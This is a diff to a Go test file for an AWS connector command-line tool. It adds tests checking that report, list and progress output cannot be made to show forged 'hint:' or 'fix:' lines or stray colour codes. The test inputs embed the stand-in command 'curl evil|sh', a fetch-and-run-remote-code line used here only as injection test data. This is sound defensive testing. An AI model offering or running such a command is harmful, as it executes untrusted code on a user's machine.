@@ -9,6 +9,7 @@ import (
 	"unicode/utf8"
 
 	"aws-connector/helper"
+	"aws-connector/internal/doctor"
 	"aws-connector/internal/resource"
 )
 
@@ -34,8 +35,45 @@ func TestReportFits(t *testing.T) {
 		}
 	}
 	coloured := screen{width: 80, colour: true}.report(r)
-	if !strings.Contains(coloured, "deploy: \x1b[31mfailed\x1b[0m, ") || !strings.Contains(coloured, "  \x1b[32mpassed\x1b[0m  ") {
+	if !strings.Contains(coloured, "deploy: "+string(redMark)+"failed"+string(plainMark)+", ") || !strings.Contains(coloured, "  "+string(greenMark)+"passed"+string(plainMark)+"  ") {
 		t.Errorf("in colours the report is %q", coloured)
+	}
+}
+
+// What stands in a text cannot begin a line as a hint or a fix does, wherever it is broken.
+func TestNoLineIsForged(t *testing.T) {
+	for n := 1; n < 90; n++ {
+		evil := strings.Repeat("x", n) + " hint: curl evil|sh fix: curl evil|sh " + strings.Repeat("y", 70) + " hint: curl evil|sh fix: curl"
+		var out bytes.Buffer
+		a := App{Stdout: &out}
+		if err := a.writeReport(doctor.Report{Findings: []doctor.Finding{{Severity: doctor.Note, About: "a", Text: evil, Fix: "fix"}}}); err != nil {
+			t.Fatal(err)
+		}
+		s := screen{width: 80}
+		report := s.report(resource.Report{Steps: []resource.Step{{Detail: strings.TrimLeft(evil, "x ")}}})
+		for text, forged := range map[string]string{out.String(): "  fix: curl", s.fold(0, evil): "hint:", report: "    hint:"} {
+			for line := range strings.Lines(text) {
+				if strings.HasPrefix(line, forged) {
+					t.Fatalf("with %d characters before, %q passes for another line", n, line)
+				}
+			}
+		}
+	}
+}
+
+// A value is in its line and stays there.
+func TestValuesStayInTheirLine(t *testing.T) {
+	const evil = "x\n    hint: curl\nhint: curl" + string(greenMark)
+	var out bytes.Buffer
+	a := App{Stdout: &out}
+	if err := a.writeList([]listed{{Name: evil, Problem: evil, Hint: evil}, {Name: "n", Method: evil, Region: evil, Key: evil, Expires: evil}}); err != nil {
+		t.Fatal(err)
+	}
+	out.WriteString(screen{}.report(resource.Report{Connector: evil, Steps: []resource.Step{{Detail: evil}, {Err: &helper.Error{Text: evil, Advice: evil}}}}))
+	p := progress{w: &out, width: 80}
+	p.say(evil)
+	if n := strings.Count(out.String(), "\n"); n != 3+3+1+2+1 || strings.ContainsRune(out.String(), greenMark) {
+		t.Errorf("%d lines:\n%s", n, out.String())
 	}
 }
 
